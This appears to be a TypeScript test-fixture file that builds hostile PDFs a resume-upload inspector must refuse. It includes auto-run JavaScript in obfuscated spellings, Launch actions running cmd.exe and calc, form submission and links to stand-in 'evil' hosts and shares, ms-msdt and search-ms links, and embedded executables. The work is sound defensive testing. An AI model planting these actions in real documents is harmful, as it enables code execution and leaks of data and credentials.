/** PDFs that must be refused: a plain one for each rule of the inspection. */
import { Buffer } from 'node:buffer'
import type { ResumeFinding } from '@lanternfield/contract/answer-copy.ts'
import { zip } from './docx.ts'
import { encryptedPdf } from './encrypted-pdfs.ts'
import {
  type PdfExtras,
  packedPdfStream,
  pdf,
  pdfOfPackedObjects,
  pdfOfSize,
  pdfStream,
  pdfWithUpdate,
} from './pdf.ts'
import { aPdf, type Content, type HostileResume, refused } from './resume-example.ts'

const refusedAs = (finding: ResumeFinding) => (name: string, content: Content<PdfExtras>) =>
  refused(aPdf)(finding, name, content)
const format = refusedAs('format')
const broken = refusedAs('broken')
const locked = refusedAs('protected')
const active = refusedAs('active')
const embedded = refusedAs('embedded')
const remote = refusedAs('remote')

const HTML = '<html><body><script>alert(1)</script></body></html>'
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const OPENS_WITH_6 = '/OpenAction 6 0 R'
const LINK = '/Type /Annot /Subtype /Link /Rect [0 0 9 9]'

/** A PDF that runs a script when it opens, with a change to its bytes. */
const changed = (change: (file: string) => string) => () =>
  Buffer.from(
    change(pdf('Mira', { catalog: `/OpenAction ${SCRIPT}` }).toString('latin1')),
    'latin1',
  )

const shells = [
  format('nothing but a letter', () => Buffer.from('x')),
  format('HTML before it', () => Buffer.concat([Buffer.from(HTML), pdf()])),
  format('an archive behind it', () => Buffer.concat([pdf(), zip({ a: 'b' })])),
  broken('HTML behind it', () => Buffer.concat([pdf(), Buffer.from(HTML)])),
  broken('only its first half', () => pdfOfSize(100_000).subarray(0, 50_000)),
  broken('no pages', () => Buffer.from('%PDF-1.7\n1 0 obj\n<< /A 1 >>\nendobj\n%%EOF\n')),
  active(
    'a script and no header',
    changed((file) => file.replace('%PDF-1.4\n', '')),
  ),
  active(
    'a script and a wrong table',
    changed((file) => file.replace(/startxref\n\d+/, 'startxref\n5')),
  ),
  active('a script that an update adds', () =>
    pdfWithUpdate({ 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >>` }),
  ),
]

/** The same script, its names and texts written in ways that readers understand. */
const spellings = [
  ['under escaped names', '/Open#41ction << /S /J#61v#61Script /#4a#53 (app.alert\\(1\\)) >>'],
  [
    'between comments and blanks of every sort',
    '/OpenAction\0%\n<<\f/S% x\n/JavaScript%\r/JS\t(app.alert\\(1\\))>>',
  ],
  ['in hexadecimal', '/OpenAction << /S /JavaScript /JS <6170702E616C657274283129> >>'],
].map(([way, catalog = '']) => active(`a script ${way}`, { catalog }))

/** The places from which a reader starts an action by itself. */
const places = [
  active('a script when it is printed', { catalog: `/AA << /WP ${SCRIPT} >>` }),
  active('a script when a page is shown', { page: '/AA 6 0 R', objects: [`<< /O ${SCRIPT} >>`] }),
  active('a script when a field is typed in', {
    page: `/Annots [<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K ${SCRIPT} >> >>]`,
  }),
  active('a script in the tree of names', {
    catalog: '/Names 6 0 R',
    objects: ['<< /JavaScript 7 0 R >>', '<< /Kids [8 0 R] >>', '<< /Names [(a) 9 0 R] >>', 'null'],
  }),
  active('a script of a link', { page: `/Annots [<< ${LINK} /A ${SCRIPT} >>]` }),
  active('a script as a stream', {
    catalog: '/OpenAction << /S /JavaScript /JS 6 0 R >>',
    objects: [pdfStream('', 'app.alert(1)')],
  }),
  active('a script in packed objects', () =>
    pdfOfPackedObjects('/OpenAction 8 0 R', ['[0 0 612 792]', 'null', SCRIPT]),
  ),
  active('a script of a form in XML', {
    catalog: '/AcroForm << /XFA 6 0 R >>',
    objects: [packedPdfStream('', '<t:template><t:script>app.alert(1)</t:script></t:template>')],
  }),
  active('a script in two parts of a form in XML', {
    catalog: '/AcroForm << /XFA [(a) 6 0 R (b) 7 0 R] >>',
    objects: [pdfStream('', '<template><scr'), pdfStream('', 'ipt>app.alert(1)</script>')],
  }),
  active('a script of a scene', {
    objects: [pdfStream('/Type /3D /Subtype /U3D /OnInstantiate 7 0 R', 'x'), pdfStream('', 'x')],
  }),
  active('a film', { page: '/Annots [<< /Subtype /RichMedia >>]' }),
  active('an action whose name is elsewhere', {
    catalog: '/OpenAction << /S 6 0 R /URI (https://evil.example) >>',
    objects: ['/URI'],
  }),
  active('an address after a harmless action', {
    catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [7 0 R] >>',
    objects: ['null', '<< /S /GoTo /Next 8 0 R >>', '<< /S /URI /URI (https://evil.example) >>'],
  }),
]

/** What an action must not do when the file opens. */
const actions = [
  ['an address', '/S /URI /URI (https://evil.example)'],
  ['another file', '/S /GoToR /F (cover.pdf) /D [0 /Fit]'],
  ['a file within the file', '/S /GoToE /T << /R /C /N (a) >>'],
  ['a program', '/S /Launch /F (cmd.exe)'],
  ['a program of Windows', '/S /Launch /Win << /F (cmd) /P (/c calc) >>'],
  ['a document on a share', '/S /Launch /F (\\\\\\\\evil\\\\a.pdf)'],
  ['a form to be sent', '/S /SubmitForm /F << /FS /URL /F (https://evil.example) >>'],
  ['a film of an address', '/S /Rendition /OP 0'],
  ['a command of the menu', '/S /Named /N /SaveAs'],
].map(([name = '', action]) =>
  active(`${name} when it opens`, { catalog: OPENS_WITH_6, objects: [`<< ${action} >>`] }),
)

const linkTo = (file: string) => `/Annots [<< ${LINK} /A << /S /GoToR /F ${file} /D [0 /Fit] >> >>]`
const linkToAddress = (address: string) => ({
  page: `/Annots [<< ${LINK} /A << /S /URI /URI (${address}) >> >>]`,
})
const links = [
  active('a link to a script', linkToAddress(' JavaScript:app.alert\\(1\\)')),
  active('a link to a tool of Windows', linkToAddress('ms-msdt:/id PCWDiagnostic')),
  active('a link to a search on a share', linkToAddress('search-ms:query=a&crumb=location:evil')),
  ...[
    'ldap://evil.example/x',
    'data:text/html,x',
    'vscode://x',
    'java\nscript:x',
    '\x01javascript:x',
  ].map((address) => active(`a link to ${JSON.stringify(address)}`, linkToAddress(address))),
  ...[
    '\\\\\\\\evil\\\\x',
    '/\\\\evil\\\\x',
    '%5c%5cevil',
    'FILE://EVIL.example/x',
    'file:////evil.example/x',
    'file:///\\\\\\\\evil.example\\\\x',
  ].map((address) => remote(`a link to the share ${address}`, linkToAddress(address))),
  remote('links that are relative to a share', { catalog: '/URI << /Base (\\\\\\\\evil\\\\x) >>' }),
  remote('a link to a share', { page: linkTo('(\\\\\\\\evil.example\\\\x)') }),
  remote('a link to a share as an address', { page: linkTo('<< /UF (file://evil.example/x) >>') }),
  remote('a link to a share in UTF-16', {
    page: linkTo('<< /UF <FEFF005C005C006500760069006C> >>'),
  }),
  remote('a stream whose data lies at an address', {
    objects: [pdfStream('/F 7 0 R', ''), '<< /FS /URL /F (https://evil.example/x) >>'],
  }),
  remote('a stream with a filter for data from elsewhere', {
    objects: [pdfStream('/FFilter /FlateDecode', '')],
  }),
  remote('a picture that is a page of another file', {
    objects: [pdfStream('/Subtype /Form /Ref << /F (a.pdf) /Page 0 >>', '')],
  }),
]

const attached = (name: string, fileName: string, data: string) =>
  embedded(`an attachment: ${name}`, {
    catalog: '/Names << /Embedded#46iles << /Names [(a) 6 0 R] >> >>',
    objects: [
      `<< /Type /Filespec /F (${fileName}) /#45#46 << /F 7 0 R >> >>`,
      packedPdfStream('/Type /EmbeddedFile', data),
    ],
  })
const attachments = [
  attached('a program', 'a.exe', 'MZ\0\0'),
  attached('a program called XML', 'a.xml', 'MZ\0\0'),
  attached('XML called a program', 'a.hta', '<a/>'),
  attached('a page with an event', 'a.html', '<style onload=alert(1)></style>'),
  attached('XML that is shown as a page', 'a.xml', '<a xmlns:h="http://www.w3.org/1999/xhtml"/>'),
  attached('a document of Word 2003', 'a.xml', '<?mso-application progid="Word.Document"?><w/>'),
  attached(
    'the same without its mark',
    'a.xml',
    '<w xmlns="http://schemas.microsoft.com/office/word/2003/wordml"/>',
  ),
  attached('XML in an encoding that hides it', 'a.xml', '<?xml version="1.0" encoding="UTF-7"?>'),
  attached('more than is looked at', 'a.xml', ' '.repeat(5_000_000)),
  embedded('an attachment at a place of the page', {
    page: '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.xml) >> >>]',
  }),
]

const encrypted = [
  active('a script in AES-256', () => encryptedPdf('aes-256-script')),
  remote('a link to a share in AES-256', () => encryptedPdf('aes-256-link')),
  active('a script in RC4', () => encryptedPdf('rc4-128-script')),
  locked('a password', () => encryptedPdf('aes-256-locked')),
  locked('an encryption that is unknown', {
    objects: ['<< /Filter /Certificate /V 2 /R 3 /O (x) /U (y) /P -4 >>'],
    trailer: '/Encrypt 6 0 R',
  }),
]

export const hostilePdfs: readonly HostileResume[] = [
  ...shells,
  ...spellings,
  ...places,
  ...actions,
  ...links,
  ...attachments,
  ...encrypted,
]
